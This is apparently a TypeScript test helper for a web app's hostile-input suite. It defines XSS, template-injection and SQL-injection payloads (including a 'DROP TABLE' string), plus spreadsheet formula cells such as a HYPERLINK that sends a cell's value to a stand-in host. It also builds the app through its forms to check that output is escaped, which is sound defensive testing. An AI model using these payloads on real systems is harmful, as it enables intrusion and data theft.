// Helpers of the hostile-input suite: the payloads, a world where every free-text field was typed
// through the application's own forms, and the checks that tell escaped text from injected markup.
import { expect } from 'vitest';
import { Client, makeApp, PASSWORD, text, user, type TestContext } from '../support/app.ts';
import { defaultReferentialId, getReferential } from '../../src/referential/store.ts';
import { isApplicable } from '../../src/scoring/index.ts';
import { listActions } from '../../src/db/actions.ts';
import type { StructureType } from '../../src/referential/schema.ts';
import { withRevision } from '../support/plan.ts';

/** What an attacker (or a careless paste) types into a text field. */
export const PAYLOADS = [
  ['balise script', '<script>alert(1)</script>'],
  ['sortie d’attribut', '"><img src=x onerror=alert(1)>'],
  ['fin de textarea', '</textarea><b>x</b>'],
  ['gabarit', '{{7*7}} ${7*7}'],
  ['SQL booléen', "' OR 1=1 --"],
  ['SQL destructeur', "Robert'); DROP TABLE answers;--"],
  ['emoji et écriture de droite à gauche', '😀 ☕ مرحبا עברית ok'],
] as const;

/** Cells a spreadsheet would run as a formula. */
export const FORMULAS = ['=1+1', '+33 6 12 34 56 78', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://exemple.test/?"&A1;"clic")'] as const;

export const ORG_TYPES: StructureType[] = ['ACI'];
export const THEME = 'identite';

/**
 * Markup the page should not contain: elements or attributes a payload could have smuggled in.
 * Every `<` of user text must come out as `&lt;`, so each raw `<` left starts a real tag.
 */
export function injectedMarkup(html: string): string[] {
  const found: string[] = [];
  for (const m of html.matchAll(/<([a-zA-Z][\w-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g)) {
    const [tag, name, attrs] = [m[0], m[1]!.toLowerCase(), m[2] ?? ''];
    // Attribute names outside quoted values: an `on…` handler or a `src` would be an injection.
    const names = attrs.replace(/"[^"]*"|'[^']*'/g, '').match(/[^\s=/]+(?==|\s|$)/g) ?? [];
    if (
      name === 'img' ||
      name === 'b' ||
      (name === 'script' && !/^\s+src="\/static\/[\w./-]+\.js"( defer(="")?)?$/.test(attrs)) ||
      names.some((a) => /^on/i.test(a) || (a.toLowerCase() === 'src' && name !== 'script'))
    ) {
      found.push(tag);
    }
  }
  return found;
}

/** The page shows `value` as text (entities decoded once) and nowhere as raw markup. */
export function expectShownEscaped(html: string, value: string, where: string) {
  expect(injectedMarkup(html), `${where}: balisage injecté`).toEqual([]);
  if (/[<>"'&]/.test(value)) expect(html.includes(value), `${where}: texte brut non échappé`).toBe(false);
  expect(text(html).includes(value), `${where}: texte absent`).toBe(true);
}

/** Text of a PDF (PDF.js, test/support/pdf.ts); callers squash whitespace: lines wrap anywhere. */
export { pdfText } from '../support/pdf.ts';
export const squash = (s: string) => s.replace(/\s+/g, '');

/** A CSV as written by src/web/csv.ts: `;`, every cell quoted, CRLF, BOM. */
export function parseCsv(body: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = body.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const ch = s[i]!;
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') row.push(cell), (cell = '');
    else if (ch === '\r' && s[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

// ---------------------------------------------------------------------------------------------
// The world: an admin, a member, a consultant, one organisation with one diagnostic in every state
// of its life that shows text (answered, submitted, remarked, changes requested, planned).

export interface World {
  ctx: TestContext;
  admin: Client;
  member: Client;
  consultant: Client;
  orgId: string;
  memberId: string;
  consultantId: string;
  diagId: string;
  refId: string;
  serviceCode: string;
  /** The question whose answer, remark and action carry text. */
  question: string;
  /** Proposed actions: the one edited and the one dropped. */
  editedActionId: string;
  droppedActionId: string;
  customActionId: string;
}

/** POSTs a form and expects the redirect a successful form gives; returns the Location. */
export async function submit(c: Client, path: string, fields: Record<string, string | string[]>): Promise<string> {
  const res = await c.post(path, fields);
  if (res.status !== 303) throw new Error(`${path} → ${res.status}: ${text(await res.text()).slice(0, 600)}`);
  return res.headers.get('Location')!;
}

export function applicableCodes(ctx: TestContext, refId: string, theme?: string): string[] {
  const ref = getReferential(ctx.db, refId)!;
  return ref.themes
    .filter((th) => !theme || th.slug === theme)
    .flatMap((th) => th.criteria.flatMap((cr) => cr.questions))
    .filter((q) => isApplicable(q, ORG_TYPES))
    .map((q) => q.code);
}

/** Every free-text value of the world, by field key. */
export type Values = Record<FieldKey, string>;
export type FieldKey =
  | 'referentialLabel'
  | 'serviceName'
  | 'serviceDescription'
  | 'serviceContact'
  | 'orgName'
  | 'memberName'
  | 'consultantName'
  | 'participantName'
  | 'answerComment'
  | 'remarkDiagnostic'
  | 'remarkTheme'
  | 'remarkQuestion'
  | 'changesMessage'
  | 'actionTitle'
  | 'actionDescription'
  | 'actionOwner'
  | 'actionNotes'
  | 'dropReason'
  | 'customTitle'
  | 'customDescription'
  | 'customOwner'
  | 'customNotes';

/**
 * Builds the world through the forms a person would use, in the order a year of work follows, with
 * `values[field]` typed into each field. Pages reached by each redirect (with their flash message)
 * are collected in `visited` for the markup check.
 */
export async function buildWorld(values: Values, visited: Map<string, string>): Promise<World> {
  const ctx = makeApp();
  await user(ctx.db, 'admin', 'admin@cap.test');
  const admin = new Client(ctx);
  await admin.login('admin@cap.test');
  const follow = async (c: Client, label: string, path: string, fields: Record<string, string | string[]>) => {
    const to = await submit(c, path, fields);
    const res = await c.get(to);
    visited.set(`${label} (${to})`, await res.text());
    return to;
  };

  // A referential version imported as JSON, published and made the default.
  const builtin = getReferential(ctx.db, defaultReferentialId(ctx.db)!)!;
  const refId = 'version-hostile';
  await admin.get('/admin/referentials/import');
  await follow(admin, 'import', '/admin/referentials/import', { json: JSON.stringify({ ...builtin, id: refId, label: values.referentialLabel }) });
  await follow(admin, 'publish', `/admin/referentials/${refId}/publish`, {});
  await follow(admin, 'default', `/admin/referentials/${refId}/default`, {});

  const serviceCode = 'HOSTILE-1';
  await follow(admin, 'service', '/admin/services', { code: serviceCode, name: values.serviceName, kind: 'outil', description: values.serviceDescription, contact: values.serviceContact });

  const orgUrl = await follow(admin, 'organisation', '/admin/organisations', {
    name: values.orgName,
    siret: '73282932000074',
    types: ORG_TYPES,
    region: 'Occitanie',
    ftePermanent: '3',
    ftePathway: '12',
  });
  const orgId = orgUrl.split('/').pop()!;
  await follow(admin, 'member', '/admin/users', { name: values.memberName, email: 'membre@cap.test', role: 'member', organisationIds: [orgId], password: PASSWORD });
  await follow(admin, 'consultant', '/admin/users', { name: values.consultantName, email: 'conseil@cap.test', role: 'consultant', regions: ['Occitanie'], password: PASSWORD });
  const idOf = (email: string) => (ctx.db.$client.prepare('SELECT id FROM users WHERE email = ?').get(email) as { id: string }).id;

  const member = new Client(ctx);
  await member.login('membre@cap.test');
  await member.get(`/organisations/${orgId}`);
  const diagUrl = await follow(member, 'start', `/organisations/${orgId}/diagnostics`, {
    mode: 'autodiagnostic',
    participantName: [values.participantName, 'Camille Dupont'],
    participantRole: ['direction', 'permanent'],
    from: '',
  });
  const diagId = diagUrl.split('/').pop()!;

  // One answer carries the comment; every other applicable question is answered through the
  // whole-theme form (level 1 on the first of each criterion, so that the plan proposes actions).
  const [question] = applicableCodes(ctx, refId, THEME);
  await follow(member, 'answer', `/diagnostics/${diagId}/answers/${question}`, { level: '1', comment: values.answerComment, revision: '0' });
  const ref = getReferential(ctx.db, refId)!;
  for (const th of ref.themes) {
    const fields: Record<string, string> = {};
    for (const cr of th.criteria) {
      cr.questions
        .filter((q) => isApplicable(q, ORG_TYPES) && q.code !== question)
        .forEach((q, i) => {
          fields[`level.${q.code}`] = i === 0 ? '1' : '4';
          fields[`revision.${q.code}`] = '0';
        });
    }
    await submit(member, `/diagnostics/${diagId}/themes/${th.slug}`, fields);
  }
  await follow(member, 'submit', `/diagnostics/${diagId}/submit`, { confirm: '1' });

  const consultant = new Client(ctx);
  await consultant.login('conseil@cap.test');
  await consultant.get(`/diagnostics/${diagId}`);
  const back = `/diagnostics/${diagId}`;
  await follow(consultant, 'remark', `/diagnostics/${diagId}/comments`, { targetKind: 'diagnostic', target: '', body: values.remarkDiagnostic, back });
  await follow(consultant, 'remark', `/diagnostics/${diagId}/comments`, { targetKind: 'theme', target: THEME, body: values.remarkTheme, back });
  await follow(consultant, 'remark', `/diagnostics/${diagId}/comments`, { targetKind: 'question', target: question!, body: values.remarkQuestion, back });
  await follow(consultant, 'changes', `/diagnostics/${diagId}/request-changes`, { message: values.changesMessage });

  await member.get(`/diagnostics/${diagId}/plan`);
  const proposed = listActions(ctx.db, diagId);
  const edited = proposed.find((a) => a.questionCode === question) ?? proposed[0]!;
  const dropped = proposed.find((a) => a.id !== edited.id)!;
  await follow(member, 'action', `/diagnostics/${diagId}/actions/${edited.id}`, withRevision(ctx.db, edited.id, {
    title: values.actionTitle,
    description: values.actionDescription,
    owner: values.actionOwner,
    dueDate: '2026-06-30',
    status: 'in_progress',
    notes: values.actionNotes,
  }));
  await follow(member, 'drop', `/diagnostics/${diagId}/actions/${dropped.id}/drop`, { reason: values.dropReason });
  const customUrl = await follow(member, 'custom', `/diagnostics/${diagId}/actions`, {
    title: values.customTitle,
    description: values.customDescription,
    owner: values.customOwner,
    notes: values.customNotes,
    themeSlug: THEME,
    priority: 'haute',
    service: serviceCode,
    dueDate: '',
  });

  return {
    ctx,
    admin,
    member,
    consultant,
    orgId,
    memberId: idOf('membre@cap.test'),
    consultantId: idOf('conseil@cap.test'),
    diagId,
    refId,
    serviceCode,
    question: question!,
    editedActionId: edited.id,
    droppedActionId: dropped.id,
    customActionId: customUrl.split('#action-').pop()!,
  };
}
